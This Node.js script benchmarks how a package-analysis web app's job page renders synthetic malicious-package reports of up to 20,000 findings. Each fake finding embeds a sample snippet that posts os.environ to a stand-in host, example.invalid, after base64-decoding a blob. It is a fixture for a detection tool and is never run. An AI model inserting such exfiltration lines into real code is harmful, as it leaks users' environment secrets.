#!/usr/bin/env node
// How the job page renders large reports, in Debian's Chromium: the built app (dist/) is
// served with a synthetic completed analyze job whose report has N findings, and the page
// is timed from navigation to the first finding on screen, then one "Show more" click.
// Medians of RUNS page loads per size. Usage: node scripts/bench-report-render.mjs [runs]
// (`make frontend-bench`); writes bench/results/frontend-report.md.
import { readFileSync, writeFileSync, existsSync } from 'node:fs';
import { createServer } from 'node:http';
import { dirname, extname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

const root = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const dist = join(root, 'dist');
const RUNS = Number(process.argv[2] ?? 5);
const SIZES = [50, 500, 5000, 20000];
const JOB_ID = '00000000-0000-4000-8000-0000000000aa';
const SEVERITIES = ['critical', 'high', 'medium', 'low'];
const REACH = ['install', 'import', 'runtime', 'metadata', 'test', 'docs'];

function report(n) {
  const findings = Array.from({ length: n }, (_, i) => ({
    rule: `RULE-${i % 40}`,
    title: `Rule ${i % 40} matched something worth a look`,
    category: 'exfiltration',
    severity: SEVERITIES[i % 4],
    file: `pkg-1.0.0/src/module_${i % 300}/file_${i}.py`,
    line: (i % 900) + 1,
    snippet: `data = base64.b64decode("${'QUJD'.repeat(20)}")\nrequests.post("https://example.invalid/${i}", data=os.environ)`,
    reachability: REACH[i % REACH.length],
    artifact: 'a'.repeat(64),
    explanation: 'Sends environment variables to a remote host at install time; check where the data goes.',
  }));
  const by_severity = Object.fromEntries(SEVERITIES.map((s) => [s, findings.filter((f) => f.severity === s).length]));
  return {
    verdict: 'malicious',
    score: 9.9,
    package: { ecosystem: 'pypi', name: 'bench-pkg', version: '1.0.0', purl: 'pkg:pypi/bench-pkg@1.0.0' },
    artifacts: [{ filename: 'bench-pkg-1.0.0.tar.gz', sha256: 'a'.repeat(64), size: 12345 }],
    findings,
    by_severity,
    rules_version: 'bench',
    cached: false,
    seconds: 1,
    report: `/jobs/${JOB_ID}/report`,
    job: JOB_ID,
  };
}

const job = (r) => ({
  id: JOB_ID, task: 'analyze', params: { purl: r.package.purl, force: false }, status: 'completed', attempts: 1,
  worker: 'bench', progress: 1, result: { ...r, findings: r.findings.length }, error: null,
  created_at: '2026-11-26T10:00:00Z', started_at: '2026-11-26T10:00:00Z', completed_at: '2026-11-26T10:00:01Z',
});

const TYPES = { '.html': 'text/html', '.js': 'application/javascript', '.css': 'text/css', '.svg': 'image/svg+xml' };

function serve(bodies) {
  const server = createServer((req, res) => {
    const url = new URL(req.url, 'http://x');
    const json = (body, status = 200) => {
      res.writeHead(status, { 'Content-Type': 'application/json' });
      res.end(typeof body === 'string' ? body : JSON.stringify(body));
    };
    if (url.pathname === `/api/jobs/${JOB_ID}/report`) return json(bodies.report);
    if (url.pathname === `/api/jobs/${JOB_ID}`) return json(bodies.job);
    if (url.pathname === '/api/jobs') return json({ items: [], next: null });
    if (url.pathname === '/api/stats') return json({ queue_depth: 0, dead_letter: 0, jobs: { queued: 0, running: 0, completed: 1, failed: 0 }, workers: 1 });
    if (url.pathname.startsWith('/api/') || url.pathname.startsWith('/ws/')) return json({ error: { code: 'not_found', message: 'x' } }, 404);
    const file = join(dist, url.pathname);
    const path = url.pathname.startsWith('/assets/') && existsSync(file) ? file : join(dist, 'index.html');
    res.writeHead(200, { 'Content-Type': TYPES[extname(path)] ?? 'application/octet-stream' });
    res.end(readFileSync(path));
  });
  return new Promise((r) => server.listen(0, '127.0.0.1', () => r(server)));
}

const median = (xs) => {
  const s = [...xs].sort((a, b) => a - b);
  return s.length % 2 ? s[(s.length - 1) / 2] : (s[s.length / 2 - 1] + s[s.length / 2]) / 2;
};

async function measure(browser, base, expandAll) {
  const page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  await page.addInitScript(() => {
    new MutationObserver((_, observer) => {
      if (document.querySelector('li.finding')) {
        window.__firstFinding = performance.now();
        observer.disconnect();
      }
    }).observe(document, { subtree: true, childList: true });
  });
  await page.goto(`${base}/jobs/${JOB_ID}`);
  await page.waitForSelector('li.finding');
  const first = await page.evaluate(() => window.__firstFinding);
  // Let the browser paint and settle, then count what the page holds.
  await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => setTimeout(r, 0))));
  const nodes = await page.evaluate(() => document.getElementsByTagName('*').length);
  const heap = await page.evaluate(() => performance.memory?.usedJSHeapSize ?? 0);
  // One "Show more" click: from the click to the next frame after React committed.
  const more = page.locator('.severity-group').first().getByRole('button', { name: /^Show \d/ });
  let click = null;
  if (await more.count()) {
    click = await more.evaluate(
      (button) =>
        new Promise((r) => {
          const t0 = performance.now();
          button.click();
          requestAnimationFrame(() => setTimeout(() => r(performance.now() - t0), 0));
        }),
    );
  }
  // For contrast: open every group and show every finding (what rendering it all would hold).
  let all = null;
  if (expandAll) {
    const t0 = Date.now();
    await page.evaluate(async () => {
      const frame = () => new Promise((r) => requestAnimationFrame(() => setTimeout(r, 0)));
      for (const toggle of document.querySelectorAll('.group-toggle[aria-expanded="false"]')) toggle.click();
      await frame();
      for (;;) {
        const buttons = [...document.querySelectorAll('.severity-group .more button')];
        if (buttons.length === 0) break;
        for (const b of buttons) b.click();
        await frame();
      }
    });
    all = { ms: Date.now() - t0, nodes: await page.evaluate(() => document.getElementsByTagName('*').length) };
  }
  await page.close();
  return { first, nodes, heap, click, all };
}

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
  args: ['--no-sandbox', '--disable-gpu', '--enable-precise-memory-info'],
});
const rows = [];
for (const n of SIZES) {
  const r = report(n);
  const bodies = { report: JSON.stringify(r), job: job(r) };
  const server = await serve(bodies);
  const base = `http://127.0.0.1:${server.address().port}`;
  const samples = [];
  await measure(browser, base, false); // warm-up: compile, caches
  for (let i = 0; i < RUNS; i += 1) samples.push(await measure(browser, base, false));
  const all = n <= 5000 ? await measure(browser, base, true) : null;
  server.close();
  rows.push({
    n,
    bytes: bodies.report.length,
    first: median(samples.map((s) => s.first)),
    nodes: median(samples.map((s) => s.nodes)),
    heap: median(samples.map((s) => s.heap)) / 1024 / 1024,
    click: samples[0].click === null ? null : median(samples.map((s) => s.click)),
    allNodes: all?.all?.nodes ?? null,
  });
  console.log(JSON.stringify(rows.at(-1)));
}
await browser.close();

const base = rows[0];
const lines = [
  `# Job page: rendering large reports`,
  '',
  `\`make frontend-bench\` (scripts/bench-report-render.mjs): the production build in Debian's Chromium (headless, 1400×900),`,
  `a synthetic completed analyze job with N findings over four severities, served locally. Medians of ${RUNS} page loads after one warm-up.`,
  `"first finding" = navigation start → the first finding in the DOM (includes fetching and parsing the report JSON);`,
  `"Show more" = click → next frame after 200 more findings rendered.`,
  '',
  '| findings | report JSON | first finding (ms) | vs 50 | DOM elements | JS heap (MiB) | "Show more" +200 (ms) | DOM elements if all were shown |',
  '|---:|---:|---:|---:|---:|---:|---:|---:|',
  ...rows.map(
    (r) =>
      `| ${r.n.toLocaleString('en-US')} | ${(r.bytes / 1024).toFixed(0)} KiB | ${r.first.toFixed(0)} | ${(r.first / base.first).toFixed(2)}× | ${r.nodes.toLocaleString('en-US')} | ${r.heap.toFixed(1)} | ${r.click === null ? '—' : r.click.toFixed(0)} | ${r.allNodes === null ? 'not tried' : r.allNodes.toLocaleString('en-US')} |`,
  ),
  '',
  `Machine: ${process.platform}, node ${process.version}; measured ${new Date().toISOString().slice(0, 16)}Z.`,
  '',
];
const out = resolve(root, '../bench/results/frontend-report.md');
writeFileSync(out, lines.join('\n'));
console.log(`wrote ${out}`);
